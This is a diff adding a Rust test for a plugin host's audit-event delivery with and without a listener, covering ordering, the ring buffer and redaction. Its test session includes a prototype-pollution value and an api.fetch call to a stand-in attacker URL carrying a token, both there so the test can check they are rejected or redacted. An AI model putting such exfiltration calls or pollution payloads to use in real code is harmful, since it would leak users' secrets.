@@ -774,3 +774,122 @@ fn a_shadow_mount_connects_without_a_hello() {
         "once"
     );
 }
+
+// ----- audit delivery without a listener ---------------------------------------------------------
+
+/// The same session on two hosts, one with an audit listener and one without: the installs, the
+/// handshake, allowed, denied, malformed and flooding calls, a deferred completion.
+fn session(e: &mut Engine<MemoryBackend>) -> Vec<Vec<Effect>> {
+    install(e, manifest(APP, json!({})), None);
+    e.begin_mount(APP, iframe(), T).expect("installed");
+    let mut out = vec![e.handshake(APP, hello(NONCE), T)];
+    out.push(e.receive(APP, call(1, "storage.set", json!({ "key": "k", "value": 1 })), T));
+    out.push(e.receive(APP, call(2, "storage.get", json!({ "key": "k" })), T));
+    // Denied by policy (no `ui:render`), malformed, and a forbidden key.
+    out.push(e.receive(APP, call(3, "ui.render", json!({ "html": "<b>x</b>" })), T));
+    out.push(e.receive(APP, Incoming::json("{\"v\":1,\"id\":4,"), T));
+    out.push(e.receive(
+        APP,
+        call(5, "storage.set", json!({ "key": "k", "value": { "__proto__": {} } })),
+        T,
+    ));
+    out.push(e.receive(
+        APP,
+        call(6, "api.fetch", json!({ "url": "https://evil.example/?token=s3cr3t" })),
+        T,
+    ));
+    // A refused handshake has no plugin message behind it.
+    out.push(e.refuse_handshake(None, "a hello from an unknown window", T));
+    out.push(e.undelivered_audit());
+    out
+}
+
+#[test]
+fn without_an_audit_listener_no_event_is_copied_out_and_the_log_is_the_same() {
+    let mut heard = host(json!({ "auditCapacity": 4 }));
+    let mut deaf = host(json!({ "auditCapacity": 4 }));
+    deaf.set_audit_listener(false);
+    let with = session(&mut heard);
+    let without = session(&mut deaf);
+
+    // The listener received every event, in order, once: the ones still held are the log's
+    // newest, and seq runs without a gap from 1.
+    let delivered: Vec<_> = with
+        .iter()
+        .flatten()
+        .filter_map(|e| match e {
+            Effect::Audit(events) => Some(events.clone()),
+            _ => None,
+        })
+        .flatten()
+        .collect();
+    let seqs: Vec<u64> = delivered.iter().map(|ev| ev.seq).collect();
+    assert_eq!(seqs, (1..=seqs.len() as u64).collect::<Vec<_>>());
+    assert!(seqs.len() > 4, "the session outgrows the ring: {seqs:?}");
+    assert_eq!(heard.audit_log(), delivered[delivered.len() - 4..].to_vec());
+
+    // Without a listener: the same effects less the deliveries, the same log and counts.
+    for (w, wo) in with.iter().zip(&without) {
+        let rest: Vec<&Effect> = w
+            .iter()
+            .filter(|e| !matches!(e, Effect::Audit(_)))
+            .collect();
+        assert_eq!(rest, wo.iter().collect::<Vec<_>>());
+    }
+    assert_eq!(deaf.audit_log(), heard.audit_log());
+    assert!(!deaf.audit_log().is_empty());
+    let counts = |e: &Engine<MemoryBackend>| e.info(APP).expect("installed").counts;
+    assert_eq!(counts(&deaf), counts(&heard));
+    assert_eq!(
+        counts(&deaf).get("MESSAGE_REJECTED"),
+        Some(&2),
+        "{:?}",
+        counts(&deaf)
+    );
+    assert_eq!(
+        deaf.info(APP).expect("installed").allowed_calls,
+        heard.info(APP).expect("installed").allowed_calls
+    );
+    assert!(
+        !deaf.audit_log().iter().any(|ev| serde_json::to_string(ev)
+            .expect("serializable")
+            .contains("s3cr3t")),
+        "still redacted"
+    );
+
+    // A listener set later hears what happens from then on, in order, and nothing recorded
+    // before it (as a host that dropped those events in the browser did).
+    deaf.set_audit_listener(true);
+    assert!(deaf.undelivered_audit().is_empty());
+    let last = deaf.audit_log().last().map(|ev| ev.seq).expect("events");
+    let effects = deaf.receive(APP, call(7, "storage.get", json!({ "key": "k" })), T);
+    let effects2 = deaf.receive(APP, call(8, "ui.notify", json!({ "message": "hi" })), T);
+    let events: Vec<_> = effects
+        .iter()
+        .chain(&effects2)
+        .filter_map(|e| match e {
+            Effect::Audit(events) => Some(events.clone()),
+            _ => None,
+        })
+        .flatten()
+        .collect();
+    assert_eq!(
+        events.iter().map(|ev| ev.seq).collect::<Vec<_>>(),
+        vec![last + 1, last + 2]
+    );
+    assert_eq!(
+        events
+            .iter()
+            .map(|ev| ev.method.as_deref())
+            .collect::<Vec<_>>(),
+        vec![Some("storage.get"), Some("ui.notify")]
+    );
+    // And off again: nothing more is copied out.
+    deaf.set_audit_listener(false);
+    let effects = deaf.receive(APP, call(9, "storage.get", json!({ "key": "k" })), T);
+    assert!(!effects.iter().any(|e| matches!(e, Effect::Audit(_))));
+    assert_eq!(
+        deaf.audit_log().last().and_then(|ev| ev.method.clone()),
+        Some("storage.get".to_owned())
+    );
+}
